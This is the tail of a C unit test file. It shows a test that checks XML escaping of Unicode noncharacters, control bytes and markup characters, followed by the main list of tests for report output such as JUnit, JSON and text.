	hp_xml_escape(&out, "a\xef\xbf\xbf b\xef\xbf\xbe c\xef\xb7\x90 d\xf0\x9f\xbf\xbe e\xf4\x8f\xbf\xbf "
		      "<&>\"' \x01\xc2\x85 ok \xe2\x86\x92 \xf0\x9f\x98\x80");
	T_STREQ(out.buf, "a\xef\xbf\xbd b\xef\xbf\xbd c\xef\xbf\xbd d\xef\xbf\xbd e\xef\xbf\xbd "
		"&lt;&amp;&gt;&quot;&apos;  ok \xe2\x86\x92 \xf0\x9f\x98\x80");
	hp_buf_release(&out);
}

T_MAIN(T(t_xml_escape_chars), T(t_next_steps_quoted), T(t_junit_and_json_at_2500_nodes), T(t_id_lines_then_evidence), T(t_command_line), T(t_text_header), T(t_text_partial_phases), T(t_node_sample), T(t_junit), T(t_junit_gate), T(t_junit_no_merging), T(t_junit_nonchars), T(t_diff_junit_escaped), T(t_text_exact), T(t_text_no_issues), T(t_text_explain_ids), T(t_not_checked), T(t_focus), T(t_text_empty_and_null_opts), T(t_text_pointer_forms),
       T(t_pointer_document_of_the_check),
       T(t_text_color), T(t_text_color_only_difference), T(t_sanitize_table), T(t_sanitize_appends),
       T(t_sanitize_any_bytes), T(t_evidence_cap), T(t_json), T(t_json_empty), T(t_worst),
       T(t_want_color))
